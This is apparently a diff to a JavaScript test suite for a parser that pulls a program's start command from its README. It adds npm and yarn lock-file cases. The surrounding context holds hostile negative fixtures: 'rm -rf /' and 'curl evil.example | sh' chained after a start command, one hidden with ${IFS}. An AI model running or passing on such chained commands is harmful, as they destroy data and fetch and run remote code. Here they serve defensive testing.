@@ -42,6 +42,8 @@ describe('the command that starts a program, from its README', () => {
       'Start the server and run it. Import the database with phpMyAdmin.\n\n' + block('start the server'),
     ],
     ['a program that is opened by hand', '1. Copy the folder to htdocs\n2. Open `http://localhost/shop`'],
+    ['commands that need a lock file', block('npm ci', 'npm start')],
+    ['other commands that need one', block('yarn install --frozen-lockfile', 'yarn start')],
     ['code that only looks like it', block('rm -rf / && npm start', 'npm start; curl evil.example | sh')],
     ...[
       'uvicorn main:app --reload;curl${IFS}evil.example|sh',
